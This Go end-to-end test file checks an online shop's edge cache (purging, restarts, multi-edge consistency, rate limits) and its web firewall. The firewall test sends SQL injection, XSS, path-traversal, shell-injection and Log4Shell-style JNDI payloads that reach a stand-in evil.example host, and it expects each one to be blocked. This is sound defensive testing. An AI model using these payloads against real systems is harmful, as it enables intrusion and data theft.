package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// cacheStatus is what the edge's cache says it did.
func (a answer) cacheStatus() string { return a.Header.Get("Cache-Status") }

func (a answer) hit() bool { return strings.HasPrefix(a.cacheStatus(), "stampede; hit") }

// kept asks until the answer is one that the edge has kept: the worker may still purge for what tests before did.
func (s *shopper) kept(t *testing.T, path string, header ...string) (a answer) {
	t.Helper()
	eventually(t, time.Minute, "kept", func() error {
		if a = s.must(t, http.StatusOK, "GET", path, nil, header...); !a.hit() {
			return fmt.Errorf("%s: %s", path, a.cacheStatus())
		}
		return nil
	})
	return a
}

// confirmed tells whether the edge confirms what somebody has.
func (s *shopper) confirmed(path, coding string, has http.Header) error {
	again, err := s.do("GET", path, nil, "Accept-Encoding", coding, "If-None-Match", has.Get("Etag"))
	if err != nil || again.Status != http.StatusNotModified || !again.hit() || len(again.Body) > 0 {
		return fmt.Errorf("%s (%s): %d %v %v", path, coding, again.Status, again.Header, err)
	}
	return nil
}

// described tells whether the edge says of a page by HEAD what it says by GET.
func (s *shopper) described(path, coding string, has http.Header) error {
	head, err := s.do("HEAD", path, nil, "Accept-Encoding", coding)
	if err != nil || head.Status != http.StatusOK || !head.hit() || head.Header.Get("Content-Length") != has.Get("Content-Length") {
		return fmt.Errorf("HEAD %s (%s): %d %v %v", path, coding, head.Status, head.Header, err)
	}
	return nil
}

// Browsing is answered by the edge from the second time on, the same for everybody, and complete.
func TestEdgeCachesTheCatalogue(t *testing.T) {
	p := shared.get(t)
	item := p.newProduct(t, "E2E-EDGE-CACHE", 900, 50)
	one, two := newShopper(p.URL), newShopper(p.URL)
	two.must(t, http.StatusOK, "POST", "/cart/add", map[string]any{"product_id": item.ID, "quantity": 1}) // has cookies
	paths := []string{fmt.Sprintf("/products/%d", item.ID), fmt.Sprintf("/products/%d?fields=id,name", item.ID), "/products?limit=7&sort=rating",
		"/products?sort=rating&utm_source=mail&limit=7", "/products?ids=1,2", "/products/facets?brand=x", "/", "/search?q=article", fmt.Sprintf("/img/%d.svg", item.ID), "/openapi.json"}
	for _, path := range paths {
		for _, coding := range []string{"identity", "gzip", "zstd, br, gzip"} {
			one.must(t, http.StatusOK, "GET", path, nil, "Accept-Encoding", coding)
			a := two.kept(t, path, "Accept-Encoding", coding)
			h := a.Header
			if h.Get("Age") == "" || h.Get("Etag") == "" || h.Get("X-Request-Id") == "" || h.Get("Set-Cookie") != "" || h.Get("Server-Timing") == "" {
				t.Errorf("%s (%s): %v", path, coding, h)
			}
			if vary := strings.Join(h.Values("Vary"), ","); vary != "Accept-Encoding" {
				t.Errorf("%s: Vary %q", path, vary)
			}
			for name := range h {
				if strings.HasPrefix(name, "Surrogate-") || strings.HasPrefix(name, "Stampede-") {
					t.Errorf("%s: %s reached the shopper", path, name)
				}
			}
			if len(a.Body) > 1500 && coding != "identity" && h.Get("Content-Encoding") != strings.Split(coding, ",")[0] {
				t.Errorf("%s (%s): %d bytes as %q", path, coding, len(a.Body), h.Get("Content-Encoding"))
			}
			eventually(t, time.Minute, "confirmed", func() error { // a purge of the new product may still come in between
				err := errors.Join(one.confirmed(path, "br", h), two.confirmed(path, coding, h), two.described(path, coding, h)) // br: a tag of another coding
				if err != nil {
					h = two.kept(t, path, "Accept-Encoding", coding).Header
				}
				return err
			})
		}
	}
	for _, path := range []string{"/cart", "/orders", "/bag", "/account"} {
		for range 2 {
			if a := two.must(t, http.StatusOK, "GET", path, nil); a.cacheStatus() != "stampede; fwd=bypass" || !strings.Contains(a.Header.Get("Cache-Control"), "no-store") {
				t.Errorf("%s: %v", path, a.Header)
			}
		}
	}
	if a := p.admin(t, http.StatusOK, "GET", paths[0], nil); a.hit() || !strings.Contains(a.Header.Get("Cache-Control"), "private") {
		t.Errorf("asked with Authorization: %v", a.Header)
	}
}

// over is a shopper who asks a process directly, by its Unix socket.
func over(socket string) *shopper {
	tr := &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "unix", strings.TrimPrefix(socket, "unix:"))
	}}
	return &shopper{base: "http://local", client: &http.Client{Transport: tr, Timeout: 15 * time.Second}}
}

// What an administrator changed is what everybody sees when the change is answered: through two edges, and in each API process.
func TestEditIsVisibleWhenAnswered(t *testing.T) {
	p := shared.get(t)
	item := p.newProduct(t, "E2E-EDGE-EDIT", 100, 50)
	path := fmt.Sprintf("/products/%d", item.ID)
	askers := map[string]*shopper{"edge": newShopper(p.URL)}
	st, err := p.status()
	if err != nil {
		t.Fatal(err)
	}
	for _, proc := range st.Processes {
		if strings.HasPrefix(proc.Name, "api-") {
			askers[proc.Name] = over(proc.Address)
		}
	}
	second := freeAddr(t) // another edge on the same bus
	startEdge(t, []string{"STAMPEDE_EDGE_CACHE_DIR="}, "--config", filepath.Join(p.data, "run", "config.yaml"), "--name", "edge-2", "--listen", second, "--ops", freeAddr(t))
	askers["edge-2"] = newShopper("http://" + second)
	if len(askers) != 4 {
		t.Fatalf("askers: %v", askers)
	}
	views := []string{path, path + "?fields=price", fmt.Sprintf("/products?ids=%d", item.ID), "/products?q=E2E-EDGE-EDIT&limit=1", fmt.Sprintf("/p/%d-test-article-e2e-edge-edit", item.ID)}
	for i := range 15 {
		price := fmt.Sprintf("%d.%02d", 77+i, i)
		for _, s := range askers { // so that there is something to purge
			for _, view := range views {
				s.must(t, http.StatusOK, "GET", view, nil)
			}
		}
		p.admin(t, http.StatusOK, "PATCH", path, map[string]any{"price": (77+i)*100 + i})
		for name, s := range askers {
			for _, view := range views {
				a := s.must(t, http.StatusOK, "GET", view, nil)
				want := strings.Replace(price, ".", "", 1)
				if strings.HasPrefix(view, "/p/") {
					want = price
				}
				if !bytes.Contains(a.Body, []byte(want)) {
					t.Fatalf("edit %d, %s %s: %s\n%s", i, name, view, a.cacheStatus(), a.Body)
				}
			}
		}
		p.admin(t, http.StatusOK, "PUT", path+"/stock", map[string]any{"available": 1000 + i})
		for name, s := range askers {
			if a := s.must(t, http.StatusOK, "GET", path+"/stock", nil); !bytes.Contains(a.Body, fmt.Appendf(nil, `"available":%d`, 1000+i)) {
				t.Fatalf("stock %d, %s: %s %s", i, name, a.cacheStatus(), a.Body)
			}
		}
	}
	p.admin(t, http.StatusNoContent, "DELETE", path, nil)
	for name, s := range askers {
		if a, err := s.do("GET", path, nil); err != nil || a.Status != http.StatusNotFound {
			t.Errorf("%s after the deletion: %v %d", name, err, a.Status)
		}
	}
}

// ops calls the operations endpoint with the platform's token.
func (p *platform) ops(t *testing.T, want int, method, path string, body any) answer {
	t.Helper()
	return newShopper(p.Ops).must(t, want, method, path, body, "Authorization", "Bearer "+p.token)
}

// What is purged by hand is gone from every tier, and nothing else is.
func TestPurgeEndpoint(t *testing.T) {
	p := shared.get(t)
	s := newShopper(p.URL)
	const one, two, list = "/products/5", "/products/7", "/products?limit=9"
	for name, c := range map[string]struct {
		body any
		gone []string
		kept []string
	}{
		"tag":     {map[string]any{"tags": []string{"p:5"}}, []string{one}, []string{two}},
		"key":     {map[string]any{"keys": []string{"p:7"}}, []string{two}, []string{one}},
		"lists":   {map[string]any{"tags": []string{"lists"}}, []string{list}, []string{one, two}},
		"address": {map[string]any{"keys": []string{list, two}}, []string{list, two}, []string{one}},
		"all":     {map[string]any{"all": true}, []string{one, two, list}, nil},
		"other":   {map[string]any{"tags": []string{"p:6000000"}}, nil, []string{one, two}},
	} {
		for _, path := range append(c.gone, c.kept...) {
			s.kept(t, path)
		}
		p.ops(t, http.StatusOK, "POST", "/admin/cache/purge", c.body)
		_, byAddress := c.body.(map[string]any)["keys"]
		for _, path := range c.gone {
			a := s.must(t, http.StatusOK, "GET", path, nil)
			if timing := strings.Join(a.Header.Values("Server-Timing"), ","); a.hit() || !byAddress && !strings.Contains(timing, "l1;desc=miss") {
				t.Errorf("%s: %s comes from %s, %s", name, path, a.cacheStatus(), timing)
			}
		}
		for _, path := range c.kept {
			if a := s.must(t, http.StatusOK, "GET", path, nil); !a.hit() {
				t.Errorf("%s: %s went too: %s", name, path, a.cacheStatus())
			}
		}
	}
	out, stderr, err := run(t.Context(), nil, "cache", "stats", "--data", p.data)
	if err != nil || !strings.Contains(out, "EDGE") || !strings.Contains(out, "api-2") {
		t.Errorf("cache stats: %v %s\n%s", err, stderr, out)
	}
}

// onDisk tells whether the edge has these answers on its disk, where each file ends with one.
func (p *platform) onDisk(bodies ...string) error {
	files, err := filepath.Glob(filepath.Join(p.data, "edge-cache", "*", "*"))
	if err != nil {
		return err
	}
	found := map[string]bool{}
	for _, file := range files {
		raw, _ := os.ReadFile(file) // it may be gone meanwhile
		for _, b := range bodies {
			if bytes.HasSuffix(raw, []byte(b)) {
				found[b] = true
			}
		}
	}
	if len(found) != len(bodies) {
		return fmt.Errorf("%d of %d answers are among %d files", len(found), len(bodies), len(files))
	}
	return nil
}

// An edge that dies keeps what was on its disk, and asks about it once, as it may have missed purges.
func TestEdgeRestartKeepsTheDisk(t *testing.T) {
	p := shared.get(t)
	s := newShopper(p.URL)
	const same, changed = "/products/11?fields=id,sku,price", "/products/12?fields=id,sku,price" // of these nothing is under way
	old := string(s.must(t, http.StatusOK, "GET", same, nil).Body)
	other := string(s.must(t, http.StatusOK, "GET", changed, nil).Body)
	eventually(t, time.Minute, "on disk", func() error { return p.onDisk(old, other) })
	pid := p.pid(t, "edge")
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	eventually(t, time.Minute, "dead", func() error { return gone(pid) })
	st, err := p.status()
	if err != nil {
		t.Fatal(err)
	}
	for _, proc := range st.Processes {
		if proc.Name == "api-1" { // while there is no edge that could be purged
			over(proc.Address).must(t, http.StatusOK, "PATCH", "/products/12", map[string]any{"price": 4711}, "Authorization", "Bearer "+p.token)
		}
	}
	for _, c := range []struct {
		path, status, body string
	}{
		{same, "stampede; fwd=stale; fwd-status=304; stored", old}, {same, "stampede; hit", old},
		{changed, "stampede; fwd=", `"price":4711`}, {changed, "stampede; ", `"price":4711`}, // the outbox purges it again
	} {
		a := s.must(t, http.StatusOK, "GET", c.path, nil)
		if !strings.HasPrefix(a.cacheStatus(), c.status) || !bytes.Contains(a.Body, []byte(c.body)) {
			t.Errorf("%s: %s, want %s: %s", c.path, a.cacheStatus(), c.status, a.Body)
		}
	}
	p.healthy(t)
}

// While the queue is gone nobody can purge an edge; what it shows is new all the same, then and after.
func TestEdgeIsNotStaleWithoutTheQueue(t *testing.T) {
	p := shared.get(t)
	s := newShopper(p.URL)
	const path = "/products/21?fields=id,price"
	edit := func(price int) {
		t.Helper()
		p.admin(t, http.StatusOK, "PATCH", "/products/21", map[string]any{"price": price})
		if a := s.must(t, http.StatusOK, "GET", path, nil); !bytes.Contains(a.Body, fmt.Appendf(nil, `"price":%d}`, price)) {
			t.Errorf("after the edit to %d: %s %s", price, a.cacheStatus(), a.Body)
		}
	}
	edit(4000)
	s.kept(t, path)
	pid := p.pid(t, "nats")
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	back, begun := time.Time{}, time.Now()
	for i := 1; back.IsZero() || time.Since(back) < 2*time.Second; i++ {
		edit(4000 + i)
		st, err := p.status()
		if err != nil {
			t.Fatal(err)
		}
		for _, proc := range st.Processes {
			if proc.Name == "nats" && proc.PID != pid && proc.State == "running" && back.IsZero() {
				back = time.Now()
			}
		}
		if back.IsZero() && time.Since(begun) > 2*time.Minute {
			t.Fatalf("the queue does not come back: %+v", st)
		}
	}
	s.kept(t, path)
}

// The firewall refuses attacks, and its log says why under the id of the answer. Rules of the operator's own come and go.
func TestFirewall(t *testing.T) {
	p := shared.get(t)
	s := newShopper(p.URL)
	attacks := []struct{ method, path, body, header string }{
		{"GET", "/products?q=1%27+UNION+SELECT+password+FROM+users--", "", ""},
		{"GET", "/products?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "", ""},
		{"GET", "/search?q=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E", "", ""},
		{"GET", "/products/1?fields=..%2F..%2F..%2Fetc%2Fpasswd", "", ""},
		{"GET", "/assets/..%2f..%2f..%2fetc%2fpasswd", "", ""},
		{"GET", "/products?brand=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "", ""},
		{"GET", "/products?limit=19", "", "${jndi:ldap://evil.example/a}"},
		{"POST", "/users", `{"email":"a@example.com","password":"correct horse","name":"<script>alert(1)</script>"}`, ""},
		{"POST", "/orders/checkout", `{"shipping_address":{"line1":"; cat /etc/passwd"}}`, ""},
		{"POST", "/cart/add", `{"product_id":"1 OR 1=1; DROP TABLE carts"}`, ""},
	}
	for _, a := range attacks {
		var body any
		if a.body != "" {
			body = json.RawMessage(a.body)
		}
		got := s.must(t, http.StatusForbidden, a.method, a.path, body, "X-Api-Version", a.header)
		p.wantBlocked(t, got)
	}
	var calls []struct {
		Status int
		Body   struct{ Type string }
	}
	one := json.RawMessage(`{"requests":[{"method":"POST","path":"/cart/add","body":{"product_id":1}},{"method":"GET","path":"/products?q=1%27%20OR%20%271%27=%271"},{"method":"GET","path":"/cart"}]}`)
	if a := s.must(t, http.StatusOK, "POST", "/batch", one); a.into(&calls) != nil || len(calls) != 3 || calls[0].Status != http.StatusOK ||
		calls[1].Status != http.StatusForbidden || calls[1].Body.Type != "/problems/request-blocked" || calls[2].Status != http.StatusOK {
		t.Errorf("of a batch its attack alone is to be refused: %s", a.Body)
	}
	rule := filepath.Join(p.data, "waf", "e2e.conf")
	if err := os.WriteFile(rule, []byte("SecRule ARGS:q \"@streq wombat\" \"id:900123,phase:2,deny,status:403,log,msg:'no wombats'\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s.must(t, http.StatusOK, "GET", "/products?q=wombat&limit=1", nil)
	p.ops(t, http.StatusOK, "POST", "/admin/waf/reload", nil)
	p.wantBlocked(t, s.must(t, http.StatusForbidden, "GET", "/products?q=wombat&limit=2", nil))
	if err := os.WriteFile(rule, []byte("SecRule nonsense\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if a := p.ops(t, http.StatusConflict, "POST", "/admin/waf/reload", nil); !bytes.Contains(a.Body, []byte("e2e.conf")) {
		t.Errorf("a broken rule: %s", a.Body)
	}
	s.must(t, http.StatusForbidden, "GET", "/products?q=wombat&limit=3", nil)
	if err := os.Remove(rule); err != nil {
		t.Fatal(err)
	}
	p.ops(t, http.StatusOK, "POST", "/admin/waf/reload", nil)
	s.must(t, http.StatusOK, "GET", "/products?q=wombat&limit=3", nil)
}

// wantBlocked checks a refusal of the firewall, and that the log explains it.
func (p *platform) wantBlocked(t *testing.T, a answer) {
	t.Helper()
	var problem struct {
		Type      string `json:"type"`
		RequestID string `json:"request_id"`
	}
	id := a.Header.Get("X-Request-Id")
	if err := a.into(&problem); err != nil || a.Header.Get("Content-Type") != "application/problem+json" || problem.Type != "/problems/request-blocked" ||
		id == "" || problem.RequestID != id || a.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("%v %+v %v", err, problem, a.Header)
	}
	newShopper(p.URL).must(t, http.StatusOK, "GET", problem.Type, nil)
	eventually(t, time.Minute, "the log explains", func() error {
		raw, err := os.ReadFile(filepath.Join(p.data, "log", "edge.log"))
		if err != nil {
			return err
		}
		for line := range bytes.Lines(raw) {
			if bytes.Contains(line, []byte(id)) && bytes.Contains(line, []byte(`"rules":[`)) {
				return nil
			}
		}
		return fmt.Errorf("no line with %s and rules", id)
	})
}

// The edge alone: any origin behind it, no configuration, no token; it keeps, purges, and limits.
func TestEdgeAlone(t *testing.T) {
	var hits atomic.Int64
	origin := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/x" {
			hits.Add(1)
			w.Header().Set("Cache-Control", "max-age=60")
			w.Header().Set("Surrogate-Key", "x")
		}
		_, _ = fmt.Fprintf(w, "%s %s", r.Method, r.URL)
	}), ReadHeaderTimeout: time.Minute}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = origin.Serve(l) }()
	t.Cleanup(func() { _ = origin.Close() })
	listen, ops := freeAddr(t), freeAddr(t)
	startEdge(t, nil, "--listen", listen, "--ops", ops, "--origin", "http://"+l.Addr().String(), "--limits", "strict")
	s, o := newShopper("http://"+listen), newShopper("http://"+ops)
	get := func(want int64) {
		t.Helper()
		s.must(t, http.StatusOK, "GET", "/x", nil)
		if n := hits.Load(); n != want {
			t.Errorf("the origin was asked %d times, want %d", n, want)
		}
	}
	get(1)
	get(1)
	o.must(t, http.StatusOK, "POST", "/admin/cache/purge", map[string]any{"tags": []string{"x"}})
	get(2)
	get(2)
	if _, stderr, err := run(t.Context(), nil, "cache", "purge", "--ops", "http://"+ops, "--key", "/x", "--data", t.TempDir()); err != nil {
		t.Errorf("cache purge: %v %s", err, stderr)
	}
	get(3)
	o.must(t, http.StatusBadRequest, "POST", "/admin/cache/purge", map[string]any{})
	o.must(t, http.StatusForbidden, "POST", "/admin/cache/purge", map[string]any{"all": true}, "Origin", "http://evil.example")
	s.must(t, http.StatusForbidden, "GET", "/y?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", nil)
	var refused answer
	eventually(t, time.Minute, "who asks too often is refused", func() error { // faster than the rate, however busy the machine is
		var mu sync.Mutex
		each(200, func(int) {
			a, err := s.do("GET", "/x", nil)
			mu.Lock()
			defer mu.Unlock()
			if err != nil || a.Status != http.StatusOK && a.Status != http.StatusTooManyRequests {
				t.Errorf("%d %v", a.Status, err)
			} else if a.Status != http.StatusOK && refused.Status == 0 {
				refused = a
			}
		})
		if refused.Status == 0 {
			return errors.New("nobody was")
		}
		return nil
	})
	var problem struct{ Type, Detail string }
	if err := refused.into(&problem); err != nil || refused.Status != http.StatusTooManyRequests || problem.Type != "/problems/too-many-requests" ||
		refused.Header.Get("Retry-After") != "1" || !strings.Contains(refused.Header.Get("Ratelimit"), `"reads-address";r=0`) || refused.Header.Get("Ratelimit-Policy") == "" {
		t.Errorf("%v %d %v %s", err, refused.Status, refused.Header, refused.Body)
	}
}

// startEdge runs an edge of its own until the test ends, and returns when it is ready. args name where it listens.
func startEdge(t *testing.T, env []string, args ...string) {
	t.Helper()
	cmd := exec.Command(binary, append([]string{"edge"}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	var log bytes.Buffer
	cmd.Stderr = &log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		if err := cmd.Wait(); err != nil {
			t.Errorf("the edge: %v\n%s", err, &log)
		}
	})
	ops := newShopper("http://" + args[slices.Index(args, "--ops")+1])
	eventually(t, time.Minute, "the edge is ready", func() error {
		a, err := ops.do("GET", "/readyz", nil)
		if err == nil && a.Status != http.StatusOK {
			err = fmt.Errorf("%d %s", a.Status, a.Body)
		}
		return err
	})
}

// freeAddr is a loopback address that nobody listens on.
func freeAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	return l.Addr().String()
}
